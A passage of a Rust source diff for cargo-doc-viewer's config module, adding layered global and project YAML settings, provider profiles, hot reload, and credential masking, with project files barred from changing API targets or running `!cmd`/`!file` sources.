@@ -1,34 +1,87 @@
+use std::cell::RefCell;
+use std::collections::hash_map::Entry;
 use std::collections::{BTreeMap, HashMap};
 use std::env;
+use std::fmt;
 use std::fs::{self, File};
 use std::io::Write;
 use std::path::{Path, PathBuf};
+use std::sync::{Arc, PoisonError, RwLock};
 
-use once_cell::sync::Lazy;
+use once_cell::sync::{Lazy, OnceCell};
+use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 
-static APP_CONFIG: Lazy<AppConfig> = Lazy::new(AppConfig::load);
-static BOOTSTRAP_ASSIGNMENT: Lazy<String> = Lazy::new(build_bootstrap_assignment);
+use crate::files;
+use crate::secrets;
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+/// The current config. `serve` swaps in a fresh copy when a layer or `.env`
+/// file changes (see [`reload`]); readers keep the `Arc` they started with.
+static LOADED_CONFIG: Lazy<RwLock<Arc<LoadedConfig>>> = Lazy::new(|| {
+    let loaded = LoadedConfig::load(&ConfigPaths::current(), false)
+        .expect("lenient loading reports errors instead");
+    RwLock::new(Arc::new(loaded))
+});
+
+/// Route served by `server.rs` that relays chat requests upstream.
+pub const CHAT_PROXY_PATH: &str = "/cdv-api/chat";
+
+/// Per-project config, looked up from the current directory upwards and
+/// deep-merged over the global file.
+pub const PROJECT_CONFIG_FILE: &str = ".cargo-doc-viewer.yaml";
+
+/// Sections a project file may set. `api` and `profiles` decide where chat
+/// requests go with the global credentials, so a cloned repository must not
+/// change them.
+const PROJECT_SECTIONS: [&str; 5] = ["prompts", "context", "ui", "doc", "plugins"];
+
+/// Profile name the chat panel uses for the top-level `api` section.
+pub const DEFAULT_PROFILE: &str = "default";
+
+/// Cargo Doc Viewer settings from `~/.cargo-doc-viewer/config.yaml`, with
+/// `.cargo-doc-viewer.yaml` from the project merged over it.
+#[derive(Debug, Clone, Default, Serialize, Deserialize, JsonSchema)]
 #[serde(default)]
 pub struct AppConfig {
     pub api: ApiConfig,
+    /// Named alternatives to `api`, selectable from the chat panel.
+    pub profiles: BTreeMap<String, ApiConfig>,
     pub prompts: PromptConfig,
     pub context: ContextConfig,
     pub ui: UiConfig,
+    pub doc: DocConfig,
+    /// Plugins from the `plugins/` directories by name; `false` disables
+    /// one. Plugins not listed are enabled.
+    pub plugins: BTreeMap<String, bool>,
+    /// Loads the project's `.cargo-doc-viewer/plugins/` too. Only read from
+    /// the global config: project scripts run with the server's origin.
+    pub project_plugins: bool,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 #[serde(default)]
 pub struct ApiConfig {
+    pub provider: Provider,
     pub base_url: String,
     pub model: String,
     pub timeout_ms: u64,
     pub headers: BTreeMap<String, String>,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+/// Wire format spoken by the chat endpoint. The server proxy translates the
+/// panel's OpenAI-shaped requests for the others; `mock` is answered by the
+/// server itself from the supplied context, for offline demos and tests.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+#[serde(rename_all = "lowercase")]
+pub enum Provider {
+    #[default]
+    OpenAi,
+    Anthropic,
+    Ollama,
+    Mock,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 #[serde(default)]
 pub struct PromptConfig {
     pub system: String,
@@ -36,23 +89,27 @@ pub struct PromptConfig {
     pub fallback_language: String,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 #[serde(default)]
 pub struct ContextConfig {
     pub history_window: usize,
     pub page_tokens_budget: usize,
     pub debounce_ms: u64,
     pub sanitize_patterns: Vec<SanitizePattern>,
+    /// Chunks from other doc pages added to each question; `0` disables
+    /// retrieval.
+    pub retrieval_top_k: usize,
+    pub retrieval_tokens_budget: usize,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 #[serde(default)]
 pub struct SanitizePattern {
     pub regex: String,
     pub replacement: String,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
 #[serde(default)]
 pub struct UiConfig {
     pub language: String,
@@ -60,20 +117,17 @@ pub struct UiConfig {
     pub allow_prompt_edit: bool,
 }
 
-impl Default for AppConfig {
-    fn default() -> Self {
-        Self {
-            api: ApiConfig::default(),
-            prompts: PromptConfig::default(),
-            context: ContextConfig::default(),
-            ui: UiConfig::default(),
-        }
-    }
+#[derive(Debug, Clone, Default, Serialize, Deserialize, JsonSchema)]
+#[serde(default)]
+pub struct DocConfig {
+    /// Extra arguments for `cargo doc`, used when none are given after `--`.
+    pub args: Vec<String>,
 }
 
 impl Default for ApiConfig {
     fn default() -> Self {
         Self {
+            provider: Provider::OpenAi,
             base_url: "https://api.openai.com/v1".to_string(),
             model: "gpt-4.1-mini".to_string(),
             timeout_ms: 15_000,
@@ -82,6 +136,94 @@ impl Default for ApiConfig {
     }
 }
 
+impl Provider {
+    pub fn default_base_url(self) -> &'static str {
+        match self {
+            Provider::OpenAi => "https://api.openai.com/v1",
+            Provider::Anthropic => "https://api.anthropic.com/v1",
+            Provider::Ollama => "http://localhost:11434",
+            Provider::Mock => "",
+        }
+    }
+
+    pub fn default_model(self) -> &'static str {
+        match self {
+            Provider::OpenAi => "gpt-4.1-mini",
+            Provider::Anthropic => "claude-sonnet-4-5",
+            Provider::Ollama => "llama3.1",
+            Provider::Mock => "mock",
+        }
+    }
+}
+
+impl ApiConfig {
+    fn normalize(&mut self) {
+        // Serde fills missing fields from the OpenAI defaults, which are
+        // never what a profile for another provider means.
+        let openai = Provider::OpenAi;
+        let base_url = self.base_url.trim();
+        if base_url.is_empty() || (self.provider != openai && base_url == openai.default_base_url())
+        {
+            self.base_url = self.provider.default_base_url().to_string();
+        } else {
+            self.base_url = base_url.to_string();
+        }
+        let model = self.model.trim();
+        if model.is_empty() || (self.provider != openai && model == openai.default_model()) {
+            self.model = self.provider.default_model().to_string();
+        } else {
+            self.model = model.to_string();
+        }
+        if self.timeout_ms == 0 {
+            self.timeout_ms = ApiConfig::default().timeout_ms;
+        }
+    }
+
+    fn resolve_env(&mut self, prefix: &str, source: &EnvSource) {
+        let resolve =
+            |value: &mut String, field: String| resolve_string(value, &field, source, true);
+        resolve(&mut self.base_url, format!("{prefix}.base_url"));
+        resolve(&mut self.model, format!("{prefix}.model"));
+        for (key, value) in self.headers.iter_mut() {
+            resolve(value, format!("{prefix}.headers.{key}"));
+        }
+    }
+
+    /// Removes values that may carry credentials, returning their config
+    /// paths: every field `written` (the same settings before resolution)
+    /// fills from a placeholder or a `!cmd`/`!file` source, and headers whose
+    /// name says they hold a key.
+    fn strip_credentials(&mut self, written: Option<&ApiConfig>, prefix: &str) -> Vec<String> {
+        let mut removed = Vec::new();
+        let referenced = |value: Option<&String>| value.is_some_and(|value| is_reference(value));
+        if referenced(written.map(|api| &api.base_url)) {
+            self.base_url.clear();
+            removed.push(format!("{prefix}.base_url"));
+        }
+        if referenced(written.map(|api| &api.model)) {
+            self.model.clear();
+            removed.push(format!("{prefix}.model"));
+        }
+        self.headers.retain(|name, value| {
+            let secret = (is_credential_header(name) && !value.trim().is_empty())
+                || referenced(written.and_then(|api| api.headers.get(name)));
+            if secret {
+                removed.push(format!("{prefix}.headers.{name}"));
+            }
+            !secret
+        });
+        removed
+    }
+
+    fn mask_secrets(&mut self) {
+        for value in self.headers.values_mut() {
+            if !is_reference(value) {
+                *value = mask_secret(value);
+            }
+        }
+    }
+}
+
 impl Default for PromptConfig {
     fn default() -> Self {
         Self {
@@ -99,6 +241,8 @@ impl Default for ContextConfig {
             page_tokens_budget: 1_200,
             debounce_ms: 300,
             sanitize_patterns: vec![SanitizePattern::default()],
+            retrieval_top_k: 5,
+            retrieval_tokens_budget: 1_500,
         }
     }
 }
@@ -123,153 +267,699 @@ impl Default for UiConfig {
 }
 
 impl AppConfig {
-    fn load() -> Self {
-        let path = config_path();
+    /// Fills empty or zero values with defaults, returning the prompt, context
+    /// and UI fields that were replaced.
+    fn normalize(&mut self) -> Vec<FieldProblem> {
+        let mut reset = Vec::new();
+        let mut replaced = |field: &str, message: &str| {
+            reset.push(FieldProblem {
+                field: field.to_string(),
+                message: message.to_string(),
+            });
+        };
+        const EMPTY: &str = "must not be empty";
+        const ZERO: &str = "must be greater than 0";
 
-        match fs::read_to_string(&path) {
-            Ok(raw) => match serde_yaml::from_str::<AppConfig>(&raw) {
-                Ok(mut cfg) => {
-                    let env_map = EnvSource::new(&path);
-                    cfg.resolve_env(&env_map);
-                    cfg.normalize();
-                    cfg
-                }
-                Err(err) => {
-                    eprintln!(
-                        "cargo-doc-viewer: Failed to parse config at {}: {err}",
-                        path.display()
-                    );
-                    AppConfig::default()
-                }
-            },
-            Err(err) if err.kind() == std::io::ErrorKind::NotFound => {
-                if let Err(write_err) = write_default_template(&path) {
-                    eprintln!(
-                        "cargo-doc-viewer: Unable to create default config at {}: {write_err}",
-                        path.display()
-                    );
-                } else {
-                    eprintln!(
-                        "cargo-doc-viewer: Created AI chat config template at {}",
-                        path.display()
-                    );
-                }
-                AppConfig::default()
-            }
-            Err(err) => {
+        self.api.normalize();
+        self.profiles.retain(|name, _| {
+            let reserved = name.trim().is_empty() || name == DEFAULT_PROFILE;
+            if reserved {
                 eprintln!(
-                    "cargo-doc-viewer: Unable to read config at {}: {err}",
-                    path.display()
+                    "cargo-doc-viewer: Ignoring profile {name:?}; `api` is the {DEFAULT_PROFILE:?} profile."
                 );
-                AppConfig::default()
             }
-        }
-    }
-
-    fn normalize(&mut self) {
-        if self.api.base_url.trim().is_empty() {
-            self.api.base_url = ApiConfig::default().base_url;
-        } else {
-            self.api.base_url = self.api.base_url.trim().to_string();
-        }
-        if self.api.model.trim().is_empty() {
-            self.api.model = ApiConfig::default().model;
-        } else {
-            self.api.model = self.api.model.trim().to_string();
-        }
-        if self.api.timeout_ms == 0 {
-            self.api.timeout_ms = ApiConfig::default().timeout_ms;
+            !reserved
+        });
+        for profile in self.profiles.values_mut() {
+            profile.normalize();
         }
 
         if self.prompts.system.trim().is_empty() {
             self.prompts.system = PromptConfig::default().system;
+            replaced("prompts.system", EMPTY);
         }
         if self.prompts.environment_template.trim().is_empty() {
             self.prompts.environment_template = PromptConfig::default().environment_template;
+            replaced("prompts.environment_template", EMPTY);
         }
         if self.prompts.fallback_language.trim().is_empty() {
             self.prompts.fallback_language = PromptConfig::default().fallback_language;
+            replaced("prompts.fallback_language", EMPTY);
         } else {
             self.prompts.fallback_language = self.prompts.fallback_language.trim().to_string();
         }
 
         if self.context.history_window == 0 {
             self.context.history_window = ContextConfig::default().history_window;
+            replaced("context.history_window", ZERO);
         }
         if self.context.page_tokens_budget == 0 {
             self.context.page_tokens_budget = ContextConfig::default().page_tokens_budget;
+            replaced("context.page_tokens_budget", ZERO);
         }
         if self.context.debounce_ms == 0 {
             self.context.debounce_ms = ContextConfig::default().debounce_ms;
+            replaced("context.debounce_ms", ZERO);
+        }
+        if self.context.retrieval_tokens_budget == 0 {
+            self.context.retrieval_tokens_budget = ContextConfig::default().retrieval_tokens_budget;
+            replaced("context.retrieval_tokens_budget", ZERO);
         }
         if self.context.sanitize_patterns.is_empty() {
             self.context.sanitize_patterns = ContextConfig::default().sanitize_patterns;
+            replaced("context.sanitize_patterns", EMPTY);
         } else {
-            for pattern in &mut self.context.sanitize_patterns {
+            for (index, pattern) in self.context.sanitize_patterns.iter_mut().enumerate() {
                 if pattern.regex.trim().is_empty() {
                     pattern.regex = SanitizePattern::default().regex;
+                    replaced(&format!("context.sanitize_patterns[{index}].regex"), EMPTY);
                 }
             }
         }
 
         if self.ui.language.trim().is_empty() {
             self.ui.language = UiConfig::default().language;
+            replaced("ui.language", EMPTY);
         } else {
             self.ui.language = self.ui.language.trim().to_string();
         }
+        reset
     }
 }
 
 impl AppConfig {
+    /// The API settings for a profile name from the chat panel; `None`, an
+    /// empty name and `"default"` select `api`.
+    pub fn profile(&self, name: Option<&str>) -> Option<&ApiConfig> {
+        match name.map(str::trim) {
+            None | Some("") | Some(DEFAULT_PROFILE) => Some(&self.api),
+            Some(name) => self.profiles.get(name),
+        }
+    }
+
+    /// Masks header values, which carry API keys. `$VAR` placeholders are
+    /// kept since they name a variable rather than hold the secret.
+    fn mask_secrets(&mut self) {
+        self.api.mask_secrets();
+        for profile in self.profiles.values_mut() {
+            profile.mask_secrets();
+        }
+    }
+
+    /// See [`ApiConfig::strip_credentials`]; `written` is the merged config
+    /// before resolution.
+    fn strip_credentials(&mut self, written: &AppConfig) -> Vec<String> {
+        let mut removed = self.api.strip_credentials(Some(&written.api), "api");
+        for (name, profile) in self.profiles.iter_mut() {
+            removed.extend(
+                profile.strip_credentials(written.profiles.get(name), &format!("profiles.{name}")),
+            );
+        }
+        removed
+    }
+
+    /// Placeholders are only resolved in `api` and `profiles`, which only the
+    /// global config sets: elsewhere `$` is ordinary text (`$crate`, `\$` in
+    /// a regex), and a project file must not read the environment into a
+    /// prompt. `!cmd` and `!file` sources are resolved everywhere.
     fn resolve_env(&mut self, source: &EnvSource) {
-        resolve_string(&mut self.api.base_url, "api.base_url", source);
-        resolve_string(&mut self.api.model, "api.model", source);
-        for (key, value) in self.api.headers.iter_mut() {
-            resolve_string(value, &format!("api.headers.{key}"), source);
+        self.api.resolve_env("api", source);
+        for (name, profile) in self.profiles.iter_mut() {
+            profile.resolve_env(&format!("profiles.{name}"), source);
         }
 
-        resolve_string(&mut self.prompts.system, "prompts.system", source);
-        resolve_string(
+        let resolve = |value: &mut String, field: &str| resolve_string(value, field, source, false);
+        resolve(&mut self.prompts.system, "prompts.system");
+        resolve(
             &mut self.prompts.environment_template,
             "prompts.environment_template",
-            source,
         );
-        resolve_string(
+        resolve(
             &mut self.prompts.fallback_language,
             "prompts.fallback_language",
-            source,
         );
 
         for pattern in &mut self.context.sanitize_patterns {
-            resolve_string(
-                &mut pattern.regex,
-                "context.sanitize_patterns.regex",
-                source,
-            );
-            resolve_string(
+            resolve(&mut pattern.regex, "context.sanitize_patterns.regex");
+            resolve(
                 &mut pattern.replacement,
                 "context.sanitize_patterns.replacement",
-                source,
             );
         }
 
-        resolve_string(&mut self.ui.language, "ui.language", source);
+        resolve(&mut self.ui.language, "ui.language");
+
+        for arg in &mut self.doc.args {
+            resolve(arg, "doc.args");
+        }
     }
 }
 
-pub fn app_config() -> &'static AppConfig {
-    &APP_CONFIG
+/// A config value that is not accepted, by dotted field path.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct FieldProblem {
+    pub field: String,
+    pub message: String,
 }
 
-pub fn bootstrap_assignment() -> &'static str {
-    BOOTSTRAP_ASSIGNMENT.as_str()
+/// One YAML file that contributed to the effective config.
+#[derive(Debug, Clone, Serialize)]
+pub struct ConfigLayer {
+    pub label: &'static str,
+    pub path: PathBuf,
 }
 
-pub fn config_path() -> PathBuf {
-    if let Ok(path) = env::var("CDV_CONFIG_PATH") {
-        if !path.trim().is_empty() {
-            return PathBuf::from(path);
+/// Where the layers are read from.
+#[derive(Debug, Clone)]
+struct ConfigPaths {
+    global: PathBuf,
+    /// The nearest project file, or where one would be created.
+    project: Option<PathBuf>,
+}
+
+impl ConfigPaths {
+    fn current() -> Self {
+        Self {
+            global: config_path(),
+            project: project_config_path(),
+        }
+    }
+
+    /// See [`watched_files`].
+    fn watched_files(&self) -> Vec<PathBuf> {
+        let mut files = vec![self.global.clone()];
+        files.extend(self.project.clone());
+        for dir in env_file_dirs(&self.global) {
+            let path = dir.join(".env");
+            if !files.contains(&path) {
+                files.push(path);
+            }
         }
+        files
+    }
+}
+
+struct LoadedConfig {
+    /// Layers in merge order; later layers override earlier ones.
+    layers: Vec<ConfigLayer>,
+    /// The merged YAML before placeholders are resolved.
+    merged: AppConfig,
+    effective: Arc<AppConfig>,
+    bootstrap: OnceCell<Arc<str>>,
+    server_bootstrap: OnceCell<Arc<str>>,
+}
+
+impl LoadedConfig {
+    /// Reads and merges every layer. With `strict`, the first unreadable or
+    /// invalid file is an error; otherwise it is reported and left out so the
+    /// tool still starts.
+    fn load(paths: &ConfigPaths, strict: bool) -> Result<Self, String> {
+        let report = |message: String| {
+            if strict {
+                return Err(message);
+            }
+            eprintln!("cargo-doc-viewer: {message}");
+            Ok(())
+        };
+        let global_path = paths.global.clone();
+        let mut layers = Vec::new();
+        let mut merged = serde_yaml::Value::Mapping(Default::default());
+
+        if global_path.exists() {
+            match read_layer(&global_path) {
+                Ok(value) => {
+                    merge_yaml(&mut merged, value);
+                    layers.push(ConfigLayer {
+                        label: "global",
+                        path: global_path.clone(),
+                    });
+                }
+                Err(message) => report(message)?,
+            }
+        } else if !strict {
+            create_default_config(&global_path);
+        }
+        if let Some(path) = paths.project.clone().filter(|path| path.is_file()) {
+            match read_layer(&path) {
+                Ok(mut value) => {
+                    for section in restrict_project_layer(&mut value) {
+                        eprintln!(
+                            "cargo-doc-viewer: Ignoring `{section}` in {}; only the global config may set it.",
+                            path.display()
+                        );
+                    }
+                    for field in strip_sources(&mut value, "") {
+                        report(project_source_error(&path, &field))?;
+                    }
+                    merge_yaml(&mut merged, value);
+                    layers.push(ConfigLayer {
+                        label: "project",
+                        path,
+                    });
+                }
+                Err(message) => report(message)?,
+            }
+        }
+
+        let merged = match serde_yaml::from_value::<AppConfig>(merged) {
+            Ok(cfg) => cfg,
+            Err(err) => {
+                report(format!("Invalid merged config: {err}"))?;
+                AppConfig::default()
+            }
+        };
+        let mut effective = merged.clone();
+        let source = EnvSource::new(&global_path);
+        effective.resolve_env(&source);
+        for (field, reason) in source.unresolved.take() {
+            eprintln!("cargo-doc-viewer: Unable to resolve {field}: {reason}; leaving it empty.");
+        }
+        effective.normalize();
+
+        Ok(Self {
+            layers,
+            merged,
+            effective: Arc::new(effective),
+            bootstrap: OnceCell::new(),
+            server_bootstrap: OnceCell::new(),
+        })
+    }
+
+    fn bootstrap(&self, target: BootstrapTarget) -> Arc<str> {
+        let cell = match target {
+            BootstrapTarget::Static => &self.bootstrap,
+            BootstrapTarget::Server => &self.server_bootstrap,
+        };
+        cell.get_or_init(|| {
+            render_bootstrap((*self.effective).clone(), &self.merged, target).into()
+        })
+        .clone()
+    }
+}
+
+/// Writes the default template on first launch.
+fn create_default_config(path: &Path) {
+    if let Err(write_err) = write_template(path, DEFAULT_CONFIG_TEMPLATE) {
+        eprintln!(
+            "cargo-doc-viewer: Unable to create default config at {}: {write_err}",
+            path.display()
+        );
+    } else {
+        eprintln!(
+            "cargo-doc-viewer: Created AI chat config template at {}",
+            path.display()
+        );
+    }
+}
+
+fn read_layer(path: &Path) -> Result<serde_yaml::Value, String> {
+    let raw = fs::read_to_string(path)
+        .map_err(|err| format!("Unable to read config at {}: {err}", path.display()))?;
+    let mut value = serde_yaml::from_str(&raw)
+        .map_err(|err| format!("Failed to parse config at {}: {err}", path.display()))?;
+    untag_sources(&mut value);
+    Ok(value)
+}
+
+/// Turns `!cmd` and `!file` tagged scalars into prefixed strings: typed
+/// deserialisation would otherwise drop the tag and keep only its argument.
+fn untag_sources(value: &mut serde_yaml::Value) {
+    use serde_yaml::Value;
+
+    match value {
+        Value::Tagged(tagged) => {
+            let prefix = if tagged.tag == "cmd" {
+                Some(CMD_PREFIX)
+            } else if tagged.tag == "file" {
+                Some(FILE_PREFIX)
+            } else {
+                None
+            };
+            match (prefix, &tagged.value) {
+                (Some(prefix), Value::String(argument)) => {
+                    *value = Value::String(format!("{prefix}{argument}"));
+                }
+                _ => untag_sources(&mut tagged.value),
+            }
+        }
+        Value::Mapping(map) => map.values_mut().for_each(untag_sources),
+        Value::Sequence(items) => items.iter_mut().for_each(untag_sources),
+        _ => {}
+    }
+}
+
+/// The nearest project file, or where `config init --project` would create
+/// one: in the current directory.
+pub fn project_config_path() -> Option<PathBuf> {
+    let cwd = env::current_dir().ok()?;
+    Some(find_project_config(&cwd).unwrap_or_else(|| cwd.join(PROJECT_CONFIG_FILE)))
+}
+
+fn find_project_config(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+/// Removes the top-level keys outside [`PROJECT_SECTIONS`] from a project
+/// layer, returning their names.
+fn restrict_project_layer(value: &mut serde_yaml::Value) -> Vec<String> {
+    let Some(map) = value.as_mapping_mut() else {
+        return Vec::new();
+    };
+    let mut refused = Vec::new();
+    map.retain(|key, _| {
+        let allowed = key.as_str().is_some_and(is_project_section);
+        if !allowed {
+            refused.push(
+                key.as_str()
+                    .map_or_else(|| format!("{key:?}"), str::to_string),
+            );
+        }
+        allowed
+    });
+    refused
+}
+
+fn is_project_section(key: &str) -> bool {
+    PROJECT_SECTIONS.contains(&key)
+}
+
+/// Removes `!cmd` and `!file` sources (as [`untag_sources`] leaves them) from
+/// a project layer, returning their dotted paths: a checked-out repository
+/// must not run commands or read files of its choosing.
+fn strip_sources(value: &mut serde_yaml::Value, prefix: &str) -> Vec<String> {
+    use serde_yaml::Value;
+
+    let is_source = |value: &Value| {
+        value.as_str().is_some_and(|text| {
+            let text = text.trim_start();
+            text.starts_with(CMD_PREFIX) || text.starts_with(FILE_PREFIX)
+        })
+    };
+    let mut found = Vec::new();
+    match value {
+        Value::Mapping(map) => map.retain(|key, value| {
+            let key = key.as_str().unwrap_or_default();
+            let path = if prefix.is_empty() {
+                key.to_string()
+            } else {
+                format!("{prefix}.{key}")
+            };
+            if is_source(value) {
+                found.push(path);
+                return false;
+            }
+            found.extend(strip_sources(value, &path));
+            true
+        }),
+        Value::Sequence(items) => {
+            let mut index = 0;
+            items.retain_mut(|item| {
+                let path = format!("{prefix}[{index}]");
+                index += 1;
+                if is_source(item) {
+                    found.push(path);
+                    return false;
+                }
+                found.extend(strip_sources(item, &path));
+                true
+            });
+        }
+        _ => {}
+    }
+    found
+}
+
+fn project_source_error(path: &Path, field: &str) -> String {
+    format!(
+        "Ignoring {field} in {}: `!cmd` and `!file` are only allowed in the global config",
+        path.display()
+    )
+}
+
+/// Deep-merges `overlay` into `base`: mappings merge key by key, anything
+/// else (including sequences) is replaced. Null values leave `base` as is.
+fn merge_yaml(base: &mut serde_yaml::Value, overlay: serde_yaml::Value) {
+    use serde_yaml::Value;
+
+    match (base, overlay) {
+        (_, Value::Null) => {}
+        (Value::Mapping(base), Value::Mapping(overlay)) => {
+            for (key, value) in overlay {
+                match base.get_mut(&key) {
+                    Some(existing) => merge_yaml(existing, value),
+                    None => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, overlay) => *base = overlay,
+    }
+}
+
+fn loaded() -> Arc<LoadedConfig> {
+    LOADED_CONFIG
+        .read()
+        .unwrap_or_else(PoisonError::into_inner)
+        .clone()
+}
+
+pub fn app_config() -> Arc<AppConfig> {
+    loaded().effective.clone()
+}
+
+pub fn config_layers() -> Vec<ConfigLayer> {
+    loaded().layers.clone()
+}
+
+/// Re-reads every layer and `.env` file. A file that no longer parses leaves
+/// the current config in place and is returned as the error.
+pub fn reload() -> Result<(), String> {
+    reload_into(&LOADED_CONFIG, &ConfigPaths::current())
+}
+
+fn reload_into(slot: &RwLock<Arc<LoadedConfig>>, paths: &ConfigPaths) -> Result<(), String> {
+    let fresh = LoadedConfig::load(paths, true)?;
+    *slot.write().unwrap_or_else(PoisonError::into_inner) = Arc::new(fresh);
+    Ok(())
+}
+
+/// The merged layers before placeholders are resolved, as the files say.
+pub fn merged_config() -> AppConfig {
+    loaded().merged.clone()
+}
+
+/// Which layer sets each value, by dotted path; sequences count as one value.
+/// The topmost layer wins, and values no layer sets are left out.
+pub fn value_sources() -> Result<BTreeMap<String, &'static str>, String> {
+    let mut sources = BTreeMap::new();
+    for layer in config_layers() {
+        let mut document = read_raw_layer(&layer.path)?;
+        if layer.label == "project" {
+            restrict_project_layer(&mut document);
+        }
+        let mut leaves = Vec::new();
+        collect_leaves(&document, &mut Vec::new(), &mut leaves);
+        for path in leaves {
+            sources.insert(path.join("."), layer.label);
+        }
+    }
+    Ok(sources)
+}
+
+/// Writes each `(path, value)` into the layer that currently sets it, or the
+/// global layer for values only the defaults provide, then reloads. The
+/// previous contents of every rewritten file are kept next to it with a
+/// `.bak` suffix, since comments are lost.
+pub fn write_values(
+    changes: Vec<(Vec<String>, serde_yaml::Value)>,
+) -> Result<Vec<PathBuf>, String> {
+    let mut documents = Vec::new();
+    for layer in config_layers() {
+        let document = read_raw_layer(&layer.path)?;
+        documents.push((layer, document, false));
+    }
+    if documents
+        .first()
+        .is_none_or(|(layer, _, _)| layer.label != "global")
+    {
+        let layer = ConfigLayer {
+            label: "global",
+            path: config_path(),
+        };
+        documents.insert(
+            0,
+            (layer, serde_yaml::Value::Mapping(Default::default()), false),
+        );
+    }
+
+    apply_changes(&mut documents, changes);
+
+    let mut written = Vec::new();
+    for (layer, document, dirty) in documents {
+        if !dirty {
+            continue;
+        }
+        let yaml = serde_yaml::to_string(&document)
+            .map_err(|err| format!("Failed to render {}: {err}", layer.path.display()))?;
+        if layer.path.exists() {
+            let mut backup = layer.path.clone().into_os_string();
+            backup.push(".bak");
+            fs::copy(&layer.path, &backup)
+                .map_err(|err| format!("Unable to back up {}: {err}", layer.path.display()))?;
+        }
+        files::write_atomic(&layer.path, yaml.as_bytes())
+            .map_err(|err| format!("Unable to write {}: {err}", layer.path.display()))?;
+        written.push(layer.path);
+    }
+    if !written.is_empty() {
+        reload()?;
+    }
+    Ok(written)
+}
+
+/// Sets each change in the topmost layer of `documents` that sets its path and
+/// may hold it, else in the global layer (the first), marking it dirty. The
+/// project layer only takes [`PROJECT_SECTIONS`]: personal settings belong in
+/// the global file rather than in one a team commits.
+fn apply_changes(
+    documents: &mut [(ConfigLayer, serde_yaml::Value, bool)],
+    changes: Vec<(Vec<String>, serde_yaml::Value)>,
+) {
+    for (path, value) in changes {
+        let writable = |layer: &ConfigLayer| {
+            layer.label != "project" || path.first().is_some_and(|key| is_project_section(key))
+        };
+        let target = documents
+            .iter()
+            .rposition(|(layer, document, _)| {
+                writable(layer) && lookup_path(document, &path).is_some()
+            })
+            .unwrap_or(0);
+        let (_, document, dirty) = &mut documents[target];
+        set_path(document, &path, value);
+        *dirty = true;
+    }
+}
+
+/// A layer as written, with `!cmd`/`!file` tags kept so they survive a
+/// rewrite.
+fn read_raw_layer(path: &Path) -> Result<serde_yaml::Value, String> {
+    let raw = fs::read_to_string(path)
+        .map_err(|err| format!("Unable to read config at {}: {err}", path.display()))?;
+    let value: serde_yaml::Value = serde_yaml::from_str(&raw)
+        .map_err(|err| format!("Failed to parse config at {}: {err}", path.display()))?;
+    Ok(match value {
+        serde_yaml::Value::Null => serde_yaml::Value::Mapping(Default::default()),
+        value => value,
+    })
+}
+
+fn collect_leaves(value: &serde_yaml::Value, path: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
+    match value {
+        serde_yaml::Value::Mapping(map) => {
+            for (key, value) in map {
+                if let Some(key) = key.as_str() {
+                    path.push(key.to_string());
+                    collect_leaves(value, path, out);
+                    path.pop();
+                }
+            }
+        }
+        serde_yaml::Value::Null => {}
+        _ => out.push(path.clone()),
+    }
+}
+
+fn lookup_path<'a>(value: &'a serde_yaml::Value, path: &[String]) -> Option<&'a serde_yaml::Value> {
+    path.iter()
+        .try_fold(value, |value, key| value.as_mapping()?.get(key.as_str()))
+        .filter(|value| !value.is_null())
+}
+
+/// Sets `path` in `value`, replacing anything in the way with mappings.
+fn set_path(value: &mut serde_yaml::Value, path: &[String], new: serde_yaml::Value) {
+    let Some((key, rest)) = path.split_first() else {
+        *value = new;
+        return;
+    };
+    if !value.is_mapping() {
+        *value = serde_yaml::Value::Mapping(Default::default());
+    }
+    let map = value.as_mapping_mut().expect("just made a mapping");
+    let key = serde_yaml::Value::String(key.clone());
+    let child = map.entry(key).or_insert(serde_yaml::Value::Null);
+    set_path(child, rest, new);
+}
+
+/// Files whose edits change the effective config: the YAML layers (including
+/// a project file that does not exist yet) and the `.env` files placeholders
+/// are resolved from.
+pub fn watched_files() -> Vec<PathBuf> {
+    ConfigPaths::current().watched_files()
+}
+
+/// Prints which files make up the effective config, in merge order.
+pub fn report_layers() {
+    let layers = config_layers();
+    if layers.is_empty() {
+        println!("Config: built-in defaults");
+        return;
+    }
+    println!("Config layers (later entries override earlier ones):");
+    for (index, layer) in layers.iter().enumerate() {
+        println!(
+            "  {}. {:<7} {}",
+            index + 1,
+            layer.label,
+            layer.path.display()
+        );
+    }
+}
+
+/// The merged config as YAML with secrets masked. `resolved` shows the
+/// effective values after placeholder resolution and defaults; otherwise the
+/// merged files are shown as written.
+pub fn render_config(resolved: bool) -> String {
+    let loaded = loaded();
+    let mut config = if resolved {
+        (*loaded.effective).clone()
+    } else {
+        loaded.merged.clone()
+    };
+    config.mask_secrets();
+    serde_yaml::to_string(&config).unwrap_or_else(|err| format!("# failed to render: {err}\n"))
+}
+
+/// Config paths of credentials in the effective config, which `enhance`
+/// leaves out of the pages it writes.
+pub fn credential_fields() -> Vec<String> {
+    let loaded = loaded();
+    (*loaded.effective)
+        .clone()
+        .strip_credentials(&loaded.merged)
+}
+
+/// Bootstrap for HTML rewritten on disk, with credentials removed.
+pub fn bootstrap_assignment() -> Arc<str> {
+    loaded().bootstrap(BootstrapTarget::Static)
+}
+
+/// Bootstrap for pages served over HTTP: chat goes through the server proxy,
+/// so the headers of `api` and every profile are left out of the payload, and
+/// pages subscribe to the server's event stream.
+pub fn server_bootstrap_assignment() -> Arc<str> {
+    loaded().bootstrap(BootstrapTarget::Server)
+}
+
+pub fn config_path() -> PathBuf {
